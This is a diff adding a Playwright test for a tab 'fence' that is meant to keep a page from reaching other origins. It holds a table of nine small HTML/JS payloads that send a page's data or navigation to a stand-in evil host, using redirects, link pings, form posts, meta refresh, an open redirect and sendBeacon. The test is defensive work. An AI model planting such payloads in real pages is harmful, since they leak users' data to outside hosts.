@@ -1,0 +1,65 @@
+/** The browser's net alone: with rules for a tab, no navigation, form, redirect, refresh or ping reaches another origin. */
+import { expect, test } from '@playwright/test';
+import { AttackBench } from '../harness/attack-bench';
+import { html } from '../harness/site';
+
+/** Ways of a page to reach another origin; `to` is its address there. No guard looks at any of them. */
+const WAYS: Readonly<Record<string, (to: string) => string>> = {
+  'sets its location': (to) => `<script>location.href='${to}'</script>`,
+  'replaces its location': (to) => `<script>location.replace('${to}')</script>`,
+  'presses a link': (to) => `<a id="a" href="${to}">x</a><script>a.click()</script>`,
+  'presses a link that pings': (to) => `<a id="a" href="#here" ping="${to}">x</a><script>a.click()</script>`,
+  'sends a form by GET': (to) =>
+    `<form id="f" action="${to}"><input name="d" value="1"></form><script>f.submit()</script>`,
+  'sends a form by POST': (to) =>
+    `<form id="f" method="post" action="${to}"><input name="d" value="1"></form><script>f.submit()</script>`,
+  'refreshes by meta': (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
+  'follows a redirect of its own server': (to) =>
+    `<script>location.href='/redirect?to=${encodeURIComponent(to)}'</script>`,
+  'sends a beacon': (to) => `<script>navigator.sendBeacon('${to}','4711')</script>`,
+};
+
+test(`${Object.keys(WAYS).length} ways out of a fenced tab reach no other origin, and all do without the fence`, async () => {
+  test.setTimeout(5 * 60_000);
+  const bench = await AttackBench.start();
+  const { site, browser, page, evil } = bench;
+  try {
+    site.routes['/out'] = () => 'out';
+    site.routes['/redirect'] = ({ query }) => ({
+      status: 302,
+      headers: { location: new URLSearchParams(query).get('to') ?? '/' },
+      body: '',
+    });
+    site.routes['/start'] = () => html('Start', 'start');
+    const tabId = await browser.tabIdOf(page);
+    const own = new URL(site.url('/')).origin;
+    const leave = async (way: string, body: string) => {
+      const before = site.hits.length;
+      site.routes['/way'] = () => html(way, body);
+      await page.goto(site.url('/way')).catch(() => undefined);
+      await page.waitForTimeout(400);
+      return site.hits.slice(before).some(({ path }) => path === '/out');
+    };
+    const fenced: string[] = [];
+    const free: string[] = [];
+    for (const [way, body] of Object.entries(WAYS)) {
+      await browser.callPage('fence', tabId, [own]);
+      if (await leave(way, body(`${evil}/out`))) fenced.push(way);
+      await browser.callPage('fence', tabId, undefined);
+      if (await leave(way, body(`${evil}/out`))) free.push(way);
+    }
+    expect(fenced).toEqual([]);
+    expect(free).toEqual(Object.keys(WAYS));
+    // The site itself stays open, and another tab goes where it wants.
+    await browser.callPage('fence', tabId, [own]);
+    await page.goto(site.url('/start'));
+    const other = await browser.context.newPage();
+    await other.goto(`${evil}/out`);
+    expect(await other.textContent('body')).toBe('out');
+    // A worker that was restarted removes what no run needs.
+    await browser.callPage('keepFences', []);
+    expect(await leave('after the run', WAYS['sets its location']?.(`${evil}/out`) ?? '')).toBe(true);
+  } finally {
+    await bench.close();
+  }
+});
